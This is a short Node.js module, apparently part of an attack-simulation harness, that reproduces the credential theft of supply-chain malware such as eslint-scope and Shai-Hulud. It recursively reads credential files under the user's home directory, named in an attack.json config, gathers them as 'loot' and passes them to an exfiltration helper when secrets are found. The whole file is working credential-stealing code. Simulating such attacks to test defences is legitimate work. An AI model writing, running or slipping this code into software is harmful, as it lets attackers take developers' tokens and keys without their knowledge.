'use strict';
// eslint-scope (2018), Shai-Hulud, s1ngularity/nx (2025): read well-known credential
// files from $HOME and send them home. Which files: attack.json params.files (relative
// to $HOME; a directory means every file in it).
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

function readAll(p, depth = 0) {
  let st;
  try {
    st = fs.statSync(p);
  } catch (e) {
    lib.note(`${p}: ${e.code}`);
    return '';
  }
  if (st.isDirectory()) {
    if (depth > 2) return '';
    return fs.readdirSync(p).map((e) => readAll(path.join(p, e), depth + 1)).join('\n');
  }
  return lib.readText(p) || '';
}

lib.run(async () => {
  let loot = '';
  for (const rel of lib.cfg.params.files) loot += `== ${rel}\n${readAll(path.join(lib.home(), rel))}\n`;
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
